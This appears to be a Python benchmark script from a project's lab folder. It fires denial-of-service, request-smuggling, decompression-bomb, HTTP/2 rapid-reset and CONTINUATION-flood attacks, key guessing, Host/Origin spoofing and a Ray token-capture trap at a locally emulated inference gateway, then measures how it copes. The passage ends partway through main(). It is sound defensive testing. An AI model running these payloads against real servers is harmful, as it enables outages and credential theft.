"""Play the attacks on the front door against a real `tenuto serve --emulate`, over its own socket and behind HAProxy,
and print a table of their results.

    python lab/benchmarks/walk_attacks.py [--tenuto COMMAND]

`--tenuto` names the command of another build, so that both tables come from the same attacks. An honest client with a
key asks 50 times a second all the while; its longest wait is printed beside that of as long without an attack, and the
memory that the gateway took. HAProxy (Debian: haproxy) has `http-reuse always`; without it those rows are left out.
"""

from __future__ import annotations

import argparse
import contextlib
import functools
import gzip
import hashlib
import json
import os
import resource
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import yaml
from hpack import Decoder, Encoder
from serving import BODY, PATH, heading, synthetic_plan

from tenuto.deployments.entry.protocols.grpc_messages import SERVICE, InferRequest
from tenuto.deployments.serve.launcher import unused_port
from tenuto.profiles.generation import StepCost

sys.path.insert(0, str(Path(__file__).parents[2]))
from tests.instruments import http2_frames as http2

_KEY, _GUEST, _PAID = "the key of the honest client", "the key of another client", "a key of 100 tokens a second"
_MIB = 1 << 20
_LONGEST_S = 60.0
_NUMBERS = b'{"inputs":[{"name":"INPUT0","shape":[1,1],"datatype":"FP32","data":[%b1]}]}'
_HAPROXY = """
global
    maxconn 2000
defaults
    mode http
    timeout connect 5s
    timeout client 30s
    timeout server 30s
    option accept-invalid-http-request
frontend front
    bind 127.0.0.1:{front}
    default_backend ours
backend ours
    http-reuse always
    option http-keep-alive
    server ours 127.0.0.1:{ours} pool-max-conn 4
"""


def request(
    body: bytes = BODY, *lines: str, path: str = PATH, key: str | None = _KEY, length: str | None = None
) -> bytes:
    """Return a POST."""
    shown = [f"Authorization: Bearer {key}"] if key else []
    size = f"Content-Length: {len(body) if length is None else length}"
    head = [f"POST {path} HTTP/1.1", "Host: localhost", *([size] if length != "" else []), *shown, *lines]
    return "\r\n".join(head).encode() + b"\r\n\r\n" + body


def asked(prompt: Any = "x", most: int = 100, key: str | None = _KEY, **more: Any) -> bytes:
    """Return a request for a stream."""
    document = {"model": "writer", "prompt": prompt, "max_tokens": most, "stream": True, **more}
    return request(json.dumps(document).encode(), path="/v1/completions", key=key)


def answer(connection: socket.socket) -> tuple[int, bytes]:
    """Return status and body of the next answer; status 0 where the connection ended without one."""
    data = b""
    while True:
        while b"\r\n\r\n" not in data:
            if not (more := connection.recv(65536)):
                return 0, data
            data += more
        head, _, data = data.partition(b"\r\n\r\n")
        if head[9:12] != b"100":
            break
    length = int(head.lower().split(b"content-length:")[1].split(b"\r\n")[0])
    while len(data) < length and (more := connection.recv(65536)):
        data += more
    return int(head[9:12]), data[:length]


def ask(port: int, *parts: bytes, timeout_s: float = _LONGEST_S) -> int:
    """Send parts on a connection of their own; return the status, 0 where there is none."""
    with socket.create_connection(("127.0.0.1", port), timeout_s) as connection:
        with contextlib.suppress(OSError):  # it was told before all was sent
            for part in parts:
                connection.sendall(part)
        with contextlib.suppress(OSError):
            return answer(connection)[0]
    return 0


def be_honest(port: int) -> None:
    """Ask with a key 50 times a second, on one connection as long as that lasts, until the standard input ends; then
    print the longest wait, and how many were lost, by status (0: none came)."""
    over = threading.Event()

    def wait() -> None:
        sys.stdin.read()
        over.set()

    threading.Thread(target=wait, daemon=True).start()
    connection: socket.socket | None = None
    longest_ms, statuses = 0.0, Counter[int]()
    print("begun", flush=True)
    while not over.is_set():
        began_at, status = time.monotonic(), 0
        with contextlib.suppress(OSError):
            connection = connection or socket.create_connection(("127.0.0.1", port), _LONGEST_S)
            connection.sendall(request())
            status = answer(connection)[0]
        if not status:
            connection = None
        longest_ms = max(longest_ms, 1000.0 * (time.monotonic() - began_at))
        statuses[status] += 1
        time.sleep(0.02)
    total, _ = statuses.total(), statuses.pop(200, 0)
    lost = ", ".join(f"{count} × {status}" for status, count in sorted(statuses.items()))
    print(f"{longest_ms:.0f} ms" + (f", of {total} lost {lost}" if lost else ""))


class Served:
    """`tenuto serve --emulate` of a build, with keys, and what its gateway's process holds."""

    def __init__(self, port: int, grpc_port: int, operators: int, gateway: int) -> None:
        self.port = port
        self.grpc_port = grpc_port
        self.operators = operators
        self.gateway = gateway  # its pid
        self._most_mib = 0.0

    @property
    def memory_mib(self) -> float:
        """What its gateway holds beside shared memory."""
        said = dict(line.split(":", 1) for line in Path(f"/proc/{self.gateway}/status").read_text().splitlines())
        return int(said["RssAnon"].split()[0]) / 1024

    def told(self, attack: Callable[[], str]) -> tuple[str, str, str]:
        """Return what an attack was told, the honest client's longest wait beside that without it, and memory."""
        before = self.memory_mib
        began_at = time.monotonic()
        (told, wait), most = self._beside(attack), self._most_mib
        passed_s = min(5.0, max(1.0, time.monotonic() - began_at))
        _, alone = self._beside(functools.partial(_nothing, passed_s))
        return told, f"{wait} ({alone})", f"{max(0.0, most - before):.0f} MiB"

    def _beside(self, attack: Callable[[], str]) -> tuple[str, str]:
        """Return what an attack was told, and how the honest client fared beside it."""
        command = [sys.executable, __file__, "--honest", str(self.port)]
        honest = subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
        assert honest.stdout is not None
        honest.stdout.readline()  # it has begun
        said: list[str] = []
        worker = threading.Thread(target=lambda: said.append(attack()))
        worker.start()
        self._most_mib = 0.0
        while worker.is_alive():
            self._most_mib = max(self._most_mib, self.memory_mib)
            worker.join(0.05)
        return (said or ["it failed"])[0], honest.communicate()[0].strip()


def _nothing(seconds: float) -> str:
    time.sleep(seconds)
    return ""


@contextlib.contextmanager
def served(command: str, folder: Path) -> Iterator[Served]:
    """Serve until the end of the block."""
    port, grpc_port, operators, proxy = unused_port(), unused_port(), unused_port(), unused_port()
    plan, keys = folder / "plan.yaml", folder / "keys.yaml"
    plan.write_text(yaml.safe_dump(_plan()))
    entries = [
        {"name": name, "sha256": hashlib.sha256(key.encode()).hexdigest(), "models": [models]}
        for name, key, models in (("honest", _KEY, "*"), ("guest", _GUEST, "guest*"), ("paid", _PAID, "writer"))
    ]
    entries[-1]["tokens_per_s"] = 100.0
    keys.write_text(yaml.safe_dump({"keys": entries}))
    ports = ["--port", str(port), "--operator-port", str(operators), "--proxy-port", str(proxy)]
    log = (folder / "log").open("wb")
    server = subprocess.Popen(
        [
            command,
            "serve",
            str(plan),
            "--emulate",
            "--address",
            "local",
            "--keys",
            str(keys),
            "--gateways",
            "1",
            "--grpc-port",
            str(grpc_port),
            *ports,
        ],
        stdout=log,
        stderr=log,
        cwd=folder,
    )
    try:
        until = time.monotonic() + 180.0
        while True:
            with contextlib.suppress(OSError):
                if ask(port, request()) == 200:
                    break
            if server.poll() is not None or time.monotonic() > until:
                raise SystemExit((folder / "log").read_text())
            time.sleep(0.5)
        yield Served(port, grpc_port, operators, _listener(port))
    finally:
        server.send_signal(signal.SIGINT)
        try:
            server.wait(60.0)
        except subprocess.TimeoutExpired:
            server.kill()


def _plan() -> dict[str, Any]:
    """One model that answers a request, and one that writes 200 tokens a second for each of up to 32 at a time."""
    data = synthetic_plan(0.1, 1.0, 2000.0, 100.0, 1, 8).to_data()
    steps = StepCost.line(5.0, 0.0, 0.0, 0.0, 0.0).model_dump(mode="json")
    lengths = {"prompt_tokens": 20, "output_tokens": 20, "max_sequences": 32, "max_batch_tokens": 512}
    slo = {"ttft_ms": 10_000, "tpot_ms": 1000}
    data["gpus"].append({"id": "n0/1", "type": "v100"})
    replica = {"name": "writer", "batch_size": 32, "kv_tokens": 1 << 18, "steps": steps}
    data["gpulets"].append({"id": "n0/1/a", "gpu": "n0/1", "models": [replica]})
    options = {"tokenizer": "bytes"}
    data["models"].append({"name": "writer", "rate_rps": 1, "slo": slo, "generates": lengths, "options": options})
    return data


def _listener(port: int) -> int:
    """Return the pid of the process that listens on a port."""
    rows = [line.split() for line in Path("/proc/net/tcp").read_text().splitlines()[1:]]
    (node,) = {row[9] for row in rows if row[3] == "0A" and row[1].endswith(f":{port:04X}")}
    for link in Path("/proc").glob("[0-9]*/fd/*"):
        with contextlib.suppress(OSError):
            if os.readlink(link) == f"socket:[{node}]":
                return int(link.parts[2])
    raise LookupError(f"nobody listens on {port}")


@contextlib.contextmanager
def proxied(port: int, folder: Path) -> Iterator[int]:
    """Give the port of a HAProxy in front."""
    command = shutil.which("haproxy", path=f"{os.environ['PATH']}:/usr/sbin")
    if command is None:
        raise FileNotFoundError("haproxy")
    front, config = unused_port(), folder / "haproxy.cfg"
    config.write_text(_HAPROXY.format(front=front, ours=port))
    with subprocess.Popen([command, "-f", str(config)], stderr=subprocess.DEVNULL) as proxy:
        while True:
            with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", front)):
                break
            time.sleep(0.05)
        yield front
        proxy.terminate()


# --- attacks ----------------------------------------------------------------------------------------------------------


def smuggled(port: int, spelled: Callable[[int], str]) -> str:
    """Ask with a length written so that proxies may read it otherwise, and see whose answer goes where."""
    hidden = b"GET /v2/health/live HTTP/1.1\r\nHost: localhost\r\nX-Pad: %b\r\n\r\n"
    body = hidden % (b"x" * 8)
    stolen, told = 0, set()
    victim = socket.create_connection(("127.0.0.1", port), 10.0)
    for _ in range(100):
        told.add(ask(port, request(body, length=spelled(len(body))), timeout_s=10.0))
        with contextlib.suppress(OSError):
            victim.sendall(request())
            status, said = answer(victim)
            stolen += b"live" in said
            if status:
                continue
        victim = socket.create_connection(("127.0.0.1", port), 10.0)
    return f"{'/'.join(map(str, sorted(told)))}; of 100 clients behind it {stolen} got its answer"


def sent(port: int, first: bytes, block: bytes, mib: int) -> str:
    """Send as much of something, and say what was told."""
    began_at = time.monotonic()
    status = 0
    with socket.create_connection(("127.0.0.1", port), _LONGEST_S) as connection:
        with contextlib.suppress(OSError):
            connection.sendall(first)
            many = block * (_MIB // len(block))
            for _ in range(mib):
                connection.sendall(many)
                if time.monotonic() - began_at > _LONGEST_S:
                    break
        connection.settimeout(5.0)
        with contextlib.suppress(OSError):
            status = answer(connection)[0]
    return f"{status or 'closed'} after {time.monotonic() - began_at:.1f} s"


def piled(port: int, count: int, what: bytes, many: int, seconds: float) -> str:
    """Send as many requests at once on each of so many connections, and read no answer."""
    rest = {}
    for number in range(count):
        connection = socket.socket()
        connection.bind((f"127.0.0.{2 + number % 200}", 0))
        connection.connect(("127.0.0.1", port))
        connection.setblocking(False)
        rest[connection] = memoryview(what * many)
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        for connection, data in rest.items():
            with contextlib.suppress(OSError):
                rest[connection] = data[connection.send(data) :]
        time.sleep(0.05)
    for connection in rest:
        connection.close()
    return f"{sum(map(len, rest.values())) / len(what) / count:.0f} of {many:,} requests of each were not taken"


def pipelined(port: int, many: int) -> str:
    """Ask with a key so often at once on one connection, and count the answers by status."""
    began_at, statuses = time.monotonic(), Counter[int]()
    with socket.create_connection(("127.0.0.1", port), _LONGEST_S) as connection:
        sending = threading.Thread(target=connection.sendall, args=(request() * many,))
        sending.start()
        answers = connection.makefile("rb")
        for _ in range(many):
            statuses[int(answers.readline()[9:12])] += 1
            length = 0
            while (line := answers.readline().lower()) != b"\r\n":
                if line.startswith(b"content-length:"):
                    length = int(line.partition(b":")[2])
            answers.read(length)
        sending.join()
    told = ", ".join(f"{number:,} × {status}" for status, number in sorted(statuses.items()))
    return f"{told} in {time.monotonic() - began_at:.1f} s"


def idle(port: int, count: int, answers: Callable[[], bool], begun: bytes = b"") -> str:
    """Hold connections without a key that have said so much, and ask with one on others."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, count + 1000), hard))
    held = []
    try:
        for number in range(count):
            connection = socket.socket()
            connection.bind((f"127.0.0.{2 + number % 200}", 0))
            connection.settimeout(10.0)
            connection.connect(("127.0.0.1", port))
            connection.sendall(begun)
            held.append(connection)
        time.sleep(1.0)
        began_at, answered = time.monotonic(), sum(answers() for _ in range(20))
        return f"of 20 new connections with a key {answered} answered in {time.monotonic() - began_at:.1f} s"
    finally:
        for connection in held:
            connection.close()
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))


def is_answered(port: int) -> bool:
    """Ask once with a key; return whether that was answered."""
    with contextlib.suppress(OSError):
        return ask(port, request(), timeout_s=10.0) == 200
    return False


def guessed(port: int, seconds: float) -> str:
    """Try keys from one address, on connections at a time, and count the answers."""
    until, answered = time.monotonic() + seconds, list[int]()

    def guess() -> None:
        while time.monotonic() < until:
            with contextlib.suppress(OSError):
                answered.append(ask(port, request(key=f"guess {len(answered)}"), timeout_s=5.0))

    threads = [threading.Thread(target=guess) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return f"{len(answered) / seconds:.0f} keys tried a second by 8 connections, statuses {sorted(set(answered))}"


def mapped(port: int) -> str:
    """Ask for a file in /dev/shm that only its owner may open."""
    file = Path(f"/dev/shm/walk-attacks-{os.getpid()}")
    file.write_bytes(b"secret!!")
    file.chmod(0o600)
    try:
        body = json.dumps({"key": f"/{file.name}", "offset": 0, "byte_size": 8}).encode()
        begun = ask(port, request(body, path="/v2/systemsharedmemory/region/r/register"))
        place = {"shared_memory_region": "r", "shared_memory_byte_size": 4}
        tensor = {"name": "INPUT0", "shape": [1, 1], "datatype": "FP32"}
        document = {"inputs": [{**tensor, "data": [1]}], "outputs": [{"name": "OUTPUT0", "parameters": place}]}
        asked = ask(port, request(json.dumps(document).encode()))
        kept = "not touched" if file.read_bytes() == b"secret!!" else "OVERWRITTEN"
        return f"register {begun}, as an output {asked}; the file is {kept}"
    finally:
        file.unlink()


def streamed(port: int, count: int, what: bytes, seconds: float, leaves_at: int | None) -> str:
    """Ask for so many streams at once; read no answer (`leaves_at` None), or leave after so many bytes. Then say what
    they were told, when an honest stream beside them began, and when one behind them was whole."""
    open_sockets: dict[socket.socket, bytes] = {}
    for number in range(count):
        connection = socket.socket()
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        connection.bind((f"127.0.0.{2 + number % 200}", 0))
        connection.connect(("127.0.0.1", port))
        connection.sendall(what)
        open_sockets[connection] = b""
    beside_s = _first_s(port)
    statuses, until = Counter[str](), time.monotonic() + seconds
    if leaves_at is None:
        time.sleep(seconds)
    while open_sockets and (leaves_at is None or time.monotonic() < until):
        for connection, came in list(open_sockets.items()):
            connection.settimeout(0.01)
            is_over, more = leaves_at is None, b""
            try:
                more = connection.recv(65536)
                is_over |= not more
            except TimeoutError:
                pass
            except OSError:
                statuses["ended by the server"] += leaves_at is None
                is_over = True
            came = open_sockets[connection] = came + more
            if is_over or (leaves_at is not None and len(came) >= leaves_at):
                statuses[came[9:12].decode() or "no answer"] += 1
                connection.close()
                del open_sockets[connection]
    statuses["still open"] += len(open_sockets)
    for connection in open_sockets:
        connection.close()
    began_at = time.monotonic()
    behind = ask_whole(port)
    told = ", ".join(f"{number:,} x {status}" for status, number in sorted(statuses.items()) if number)
    return f"{told}; a stream beside them began after {beside_s:.1f} s; {behind} {time.monotonic() - began_at:.1f} s"


def _first_s(port: int) -> float:
    began_at = time.monotonic()
    with socket.create_connection(("127.0.0.1", port), _LONGEST_S) as connection, contextlib.suppress(OSError):
        connection.sendall(asked(most=2))
        while b"data: " not in (more := connection.recv(65536)) and more:
            pass
    return time.monotonic() - began_at


def ask_whole(port: int) -> str:
    """Ask for an answer that needs nearly all memory for keys and values; say whether it came."""
    body = json.dumps({"model": "writer", "prompt": [1] * ((1 << 18) - 10_000), "max_tokens": 2}).encode()
    return f"one that needs nearly all memory {ask(port, request(body, path='/v1/completions'))} after"


# --- attacks by HTTP/2 ------------------------------------------------------------------------------------------------

_BEGUN = http2.PREFACE + http2.frame(http2.SETTINGS, 0, 0)
_NO_WINDOW = http2.PREFACE + http2.frame(http2.SETTINGS, 0, 0, b"\0\4" + bytes(4))


def said(key: str | None = _KEY, name: str = f"{SERVICE}/ModelInfer") -> list[tuple[str, str]]:
    """Return a call's metadata."""
    headers = [(":method", "POST"), (":scheme", "http"), (":path", f"/{name}"), (":authority", "localhost")]
    headers += [("te", "trailers"), ("content-type", "application/grpc")]
    return [*headers, ("x-api-key", key)] if key else headers


def block_of(headers: list[tuple[str, str]]) -> bytes:
    """Return a header block."""
    return b"".join(http2.literal(name.encode(), value.encode()) for name, value in headers)


def called(stream: int = 1, key: str | None = _KEY, name: str = f"{SERVICE}/ModelInfer") -> bytes:
    """Return the frames of a call."""
    asked = InferRequest(model_name="synthetic", raw_input_contents=[bytes(4)])
    asked.inputs.add(name="INPUT0", datatype="FP32", shape=[1, 1])
    data = asked.SerializeToString() if name.endswith("Infer") else b""
    message = b"\0" + len(data).to_bytes(4, "big") + data
    head: bytes = http2.frame(http2.HEADERS, 4, stream, block_of(said(key, name)))
    return head + http2.frame(http2.DATA, 1, stream, message)


def reset_at_once(stream: int) -> bytes:
    """Return the frames of a call that its client gives up at once."""
    return called(stream) + http2.frame(http2.RST_STREAM, 0, stream, (8).to_bytes(4, "big"))


def call(port: int, timeout_s: float = 10.0) -> bool:
    """Return whether a call on a connection of its own is answered."""
    with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout_s) as connection:
        connection.sendall(_BEGUN + called())
        frames = connection.makefile("rb")
        while len(head := frames.read(9)) == 9:
            payload = frames.read(int.from_bytes(head[:3], "big"))
            if head[3] == http2.HEADERS and head[4] & 1:
                return dict(Decoder().decode(payload)).get("grpc-status") == "0"
    return False


def framed(port: int, *blocks: bytes, seconds: float = 20.0, reads: bool = True, connections: int = 1) -> str:
    """Send these blocks one after the other on each connection, in a while; say how much was taken and how the
    connections ended."""
    told, taken = Counter[str](), 0
    open_sockets: dict[socket.socket, tuple[int, memoryview, bytearray]] = {}
    for number in range(connections):
        connection = socket.socket()
        connection.bind((f"127.0.0.{2 + number % 200}", 0))
        connection.settimeout(10.0)
        connection.connect(("127.0.0.1", port))
        connection.setblocking(False)
        open_sockets[connection] = 0, memoryview(blocks[0]), bytearray()
    until = time.monotonic() + seconds
    while open_sockets and time.monotonic() < until:
        is_still = True
        for connection, (index, rest, came) in list(open_sockets.items()):
            try:
                if rest:
                    size = connection.send(rest[: 1 << 20])
                    rest, taken, is_still = rest[size:], taken + size, False
                    if not rest and index + 1 < len(blocks):
                        index, rest = index + 1, memoryview(blocks[index + 1])
            except BlockingIOError:
                pass
            except OSError:
                is_still = False
            open_sockets[connection] = index, rest, came
            if not reads:
                continue
            with contextlib.suppress(BlockingIOError):
                try:
                    more = connection.recv(1 << 18)
                except ConnectionResetError:
                    more = b""
                came += more
                if not more:
                    told[_end_of(came)] += 1
                    connection.close()
                    del open_sockets[connection]
                is_still = False
        if is_still:
            time.sleep(0.01)
    told["still open"] += len(open_sockets)
    for connection, (_, _, came) in open_sockets.items():
        if len(open_sockets) == 1 and reads:
            told[f"{_statuses(came)}"] += 1
        connection.close()
    words = ", ".join(f"{number} x {word}" if connections > 1 else word for word, number in told.items() if number)
    return f"{words}; {taken / _MIB:.1f} of {connections * sum(map(len, blocks)) / _MIB:.1f} MiB taken"


def _frames(data: bytes | bytearray) -> Iterator[tuple[int, int, bytes]]:
    at = 0
    while len(data) - at >= 9:
        end = at + 9 + int.from_bytes(data[at : at + 3], "big")
        yield data[at + 3], data[at + 4], bytes(data[at + 9 : end])
        at = end


def _end_of(data: bytearray) -> str:
    for kind, _, payload in _frames(data):
        if kind == http2.GOAWAY:
            return f"ended with code {payload[7]}, {payload[8:].decode() or 'no reason'}"
    return "closed"


def _statuses(data: bytearray) -> str:
    decoder, found = Decoder(), Counter[str]()
    for kind, flags, payload in _frames(data):
        if kind == http2.HEADERS:
            headers = dict(decoder.decode(payload))
            found[f"status {headers.get('grpc-status')}"] += flags & 1
        elif kind in (http2.RST_STREAM, http2.PING):
            found["refused" if kind == http2.RST_STREAM else "pongs"] += 1
    return ", ".join(f"{number:,} {word}" for word, number in found.items() if number) or "nothing told"


def attacks_by_http2(port: int) -> Iterator[tuple[str, Callable[[], str]]]:
    """Yield attacks on the socket of gRPC."""
    resets = b"".join(reset_at_once(stream) for stream in range(1, 20_000, 2))
    yield "gRPC: 10,000 calls reset at once, with a key", lambda: framed(port, _BEGUN + resets)
    yield "gRPC: the same on each of 100 connections", lambda: framed(port, _BEGUN + resets, connections=100)
    strangers = b"".join(
        called(stream, None) + http2.frame(http2.RST_STREAM, 0, stream, bytes(4)) for stream in range(1, 20_000, 2)
    )
    yield "gRPC: without a key on 100", lambda: framed(port, _BEGUN + strangers, connections=100)
    head = http2.frame(http2.HEADERS, 0, 1, block_of(said()))
    on = http2.frame(http2.CONTINUATION, 0, 1, http2.literal(b"a", b"b" * 100) * 150)
    yield "gRPC: 100 MiB of CONTINUATION", lambda: framed(port, _BEGUN + head, on * (100 * _MIB // len(on)))
    empty = http2.frame(http2.CONTINUATION, 0, 1) * _MIB
    yield "gRPC: a million empty ones", lambda: framed(port, _BEGUN + head, empty)
    encoder = Encoder()
    first = encoder.encode([*said(), ("a", "x" * 3900)])
    bombs = [http2.frame(http2.HEADERS, 4, 1, first)]
    again = encoder.encode([("a", "x" * 3900)])
    bombs += [http2.frame(http2.HEADERS, 4, stream, again * 16_000) for stream in range(3, 2000, 2)]
    yield "gRPC: 16,000 times a header of 3.9 KiB in each block of 16 KiB", lambda: framed(port, _BEGUN, *bombs)
    for name, begun in {
        "that say nothing": b"",
        "that have begun": _BEGUN,
        "with a call that is not whole": _BEGUN + called(1, None)[:-30],
        "with half a header block": _BEGUN + head,
    }.items():
        asking = functools.partial(call, port)
        yield f"gRPC: 4,096 connections without a key {name}", functools.partial(idle, port, 4096, asking, begun)
    live = b"".join(called(stream, None, f"{SERVICE}/ServerLive") for stream in range(1, 4000, 2))
    infer = b"".join(called(stream) for stream in range(1, 4000, 2))
    for name, asked in {"without a window": _NO_WINDOW, "with one": _BEGUN}.items():
        unread = functools.partial(framed, port, asked + live, seconds=10.0, reads=False, connections=300)
        yield f"gRPC: 2,000 calls of ServerLive on each of 300 connections {name}, no answer read", unread
        unread = functools.partial(framed, port, asked + infer, seconds=10.0, reads=False, connections=300)
        yield f"gRPC: the same for inference with a key, {name}", unread
    for name, block in {
        "PING": http2.frame(http2.PING, 0, 0, bytes(8)),
        "SETTINGS": http2.frame(http2.SETTINGS, 0, 0, b"\0\4\0\1\0\0"),
        "empty DATA": http2.frame(http2.DATA, 0, 1),
        "PRIORITY": http2.frame(http2.PRIORITY, 0, 3, bytes(5)),
        "WINDOW_UPDATE": http2.frame(http2.WINDOW_UPDATE, 0, 1, b"\0\0\0\1"),
        "unknown frames": http2.frame(99, 0, 0),
    }.items():
        opened = _BEGUN + http2.frame(http2.HEADERS, 4, 1, block_of(said(name=f"{SERVICE}/ModelStreamInfer")))
        flood = block * (20 * _MIB // len(block))
        yield f"gRPC: 20 MiB of {name}", functools.partial(framed, port, opened, flood)
        if name in ("PING", "SETTINGS"):
            unread = functools.partial(framed, port, opened, flood, seconds=5.0, reads=False, connections=20)
            yield f"gRPC: the same on each of 20 connections, no answer read ({name})", unread
    bomb = gzip.compress(bytes(64 * _MIB))
    packed = dict(said()) | {"grpc-encoding": "gzip"}
    opened = _BEGUN + http2.frame(http2.HEADERS, 4, 1, block_of(list(packed.items())))
    parts = [http2.frame(http2.DATA, 0, 1, bomb[at : at + 16_000]) for at in range(0, len(bomb), 16_000)]
    sent_bomb = opened + http2.frame(http2.DATA, 0, 1, b"\1" + len(bomb).to_bytes(4, "big")) + b"".join(parts)
    yield "gRPC: 64 MiB of zeros in a compressed message", lambda: framed(port, sent_bomb, seconds=2.0)
    opened = _BEGUN + http2.frame(http2.HEADERS, 4, 1, block_of(said()))
    promise = http2.frame(http2.DATA, 0, 1, b"\0" + (1 << 30).to_bytes(4, "big"))
    yield "gRPC: a message of 1 GiB", lambda: framed(port, opened + promise, seconds=2.0)


def stolen_token(command: str, folder: Path) -> str:
    """Name a socket of ours as Ray's address in /tmp/ray, as any user can, and run a command."""
    heard: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as trap:
        trap.settimeout(0.5)
        ray = folder / "ray"
        ray.mkdir()
        (ray / "ray_current_cluster").write_text(f"127.0.0.1:{trap.getsockname()[1]}")
        home = folder / "home"
        (home / ".ray").mkdir(parents=True)
        (home / ".ray" / "auth_token").write_text("5" * 64)
        (home / ".ray" / "auth_token").chmod(0o600)
        script = f"mkdir -p /tmp/ray && mount --bind {ray} /tmp/ray && exec {command} delete"
        environment = {name: value for name, value in os.environ.items() if not name.startswith("RAY_")}
        asked = subprocess.Popen(
            ["unshare", "-m", "bash", "-c", script],
            env={**environment, "HOME": str(home)},
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )
        until = time.monotonic() + 40.0
        while asked.poll() is None and time.monotonic() < until:
            with contextlib.suppress(OSError):
                connection, _ = trap.accept()
                with connection:
                    connection.settimeout(2.0)
                    # Ray's client speaks HTTP/2 only to who answers so: settings, and their acknowledgement.
                    connection.sendall(bytes.fromhex("000000040000000000" + "000000040100000000"))
                    with contextlib.suppress(OSError):
                        while more := connection.recv(65536):
                            heard.append(more)
        with contextlib.suppress(ProcessLookupError):
            os.killpg(asked.pid, signal.SIGKILL)
        asked.wait()
    told = b"".join(heard)
    if not told:
        return "nobody came to the other socket"
    return f"{len(told)} bytes came to the other socket, {'THE TOKEN AMONG THEM' if b'5' * 64 in told else 'no token'}"


def _told(port: int, sent: bytes) -> str:
    return str(ask(port, sent))


def by_head(port: int, *lines: str) -> str:
    """Ask for the status with these headers."""
    with socket.create_connection(("127.0.0.1", port), 10.0) as connection:
        connection.sendall("\r\n".join(["GET /status HTTP/1.1", *lines]).encode() + b"\r\n\r\n")
        return str(answer(connection)[0])


def attacks(gateway: Served, command: str, folder: Path) -> Iterator[tuple[str, Callable[[], str]]]:
    """Yield every attack with its name."""
    port, operators = gateway.port, gateway.operators
    spelled: dict[str, Callable[[int], str]] = {
        "a length with a space behind": lambda size: f"{size} ",
        "with a tab behind": lambda size: f"{size}\t",
        "of 16 digits": lambda size: f"{size:016d}",
        "with a sign": lambda size: f"+{size}",
    }
    with contextlib.suppress(FileNotFoundError), proxied(port, folder) as front:
        for name, spelling in spelled.items():
            yield f"smuggling behind HAProxy: {name}", functools.partial(smuggled, front, spelling)
    for name, spelling in spelled.items():
        yield f"the same without it: {name}", functools.partial(smuggled, port, spelling)
    numbers = _NUMBERS % (b"1," * (30 * _MIB))
    bomb = gzip.compress(numbers, 9)
    coded = request(bomb, "Content-Encoding: gzip")
    yield f"60 MiB of JSON numbers in {len(bomb) / _MIB:.2f} MiB of gzip", lambda: str(ask(port, coded))
    yield "the same plain", lambda: str(ask(port, request(numbers)))
    chunked = request(b"", "Transfer-Encoding: chunked", length="")
    every = b"%x\r\n" % len(numbers) + numbers + b"\r\n0\r\n\r\n"
    yield "the same in a chunk", lambda: str(ask(port, chunked, every))
    yield "100 MiB of trailers", lambda: sent(port, chunked + b"1\r\nx\r\n0\r\n", b"a: b\r\n", 100)
    yield "1,000 MiB of chunk extensions", lambda: sent(port, chunked + b"1", b";a=b", 1000)
    yield "100 MiB of headers", lambda: sent(port, b"GET / HTTP/1.1\r\nHost: localhost\r\n", b"a: b\r\n", 100)
    yield "4 MiB of requests at once", lambda: sent(port, b"", request(path="/v2/models/other/infer"), 4)
    live = b"GET /v2/health/live HTTP/1.1\r\nHost: localhost\r\n\r\n"
    yield (
        "2,000 requests at once on each of 300 connections, no answer read",
        lambda: piled(port, 300, live, 2000, 10.0),
    )
    yield "the same at once with a key, for inference", lambda: piled(port, 300, request(), 2000, 10.0)
    for many in (2000, 10_000):
        yield f"{many:,} requests for inference at once with a key", functools.partial(pipelined, port, many)
    yield "4,096 idle connections without a key", lambda: idle(port, 4096, lambda: is_answered(port))
    yield "keys tried for 20 s", lambda: guessed(port, 20.0)
    yield "a file of root in shared memory", lambda: mapped(port)
    yield "another's model", lambda: str(ask(port, request(key=_GUEST)))
    yield "no key", lambda: str(ask(port, request(key=None)))
    yield "1,000 streams at once without a key", lambda: streamed(port, 1000, asked(key=None), 20.0, 1)
    yield "1,000 streams at once with one", lambda: streamed(port, 1000, asked(), 60.0, 1)
    yield "30 streams of 20,000 tokens, no answer read", lambda: streamed(port, 30, asked(most=20_000), 40.0, None)
    yield "1,000 streams left after a few bytes", lambda: streamed(port, 1000, asked(most=20_000), 60.0, 300)
    paid = asked(most=500, key=_PAID)
    yield "100 streams of 500 tokens at once, key of 100 tokens/s", lambda: streamed(port, 100, paid, 30.0, 1)
    deep = b'{"model":"writer","messages":[{"role":"user","content":"x","more":' + b"[" * 500_000
    for name, sent_body in {
        "a prompt of 1 MiB of text": json.dumps({"model": "writer", "prompt": "x " * 500_000}).encode(),
        "of 500,000 tokens": json.dumps({"model": "writer", "prompt": [1] * 340_000}).encode(),
        "100,000 stop strings": json.dumps({"model": "writer", "prompt": "x", "stop": ["y"] * 200_000}).encode(),
        "500,000 brackets in a message": deep,
        "2 MiB": bytes(2 * _MIB),
    }.items():
        path = "/v1/chat/completions" if sent_body is deep else "/v1/completions"
        yield f"for a stream: {name}", functools.partial(_told, port, request(sent_body, path=path))
    yield from attacks_by_http2(gateway.grpc_port)
    foreign = f"Host: evil.example:{operators}"
    yield "operators' status with another Host", lambda: by_head(operators, foreign)
    here = f"Host: 127.0.0.1:{operators}"
    yield "and from another site's page", lambda: by_head(operators, here, "Origin: http://evil.example")
    yield "no Host", lambda: by_head(operators)
    yield "Ray's address written by another user", lambda: stolen_token(command, folder)


def main() -> None:
    """Play all, and print the table."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--tenuto", default=str(Path(sys.executable).parent / "tenuto"), help="command of a build")
    parser.add_argument("--only", default="", help="attacks with this in their name")
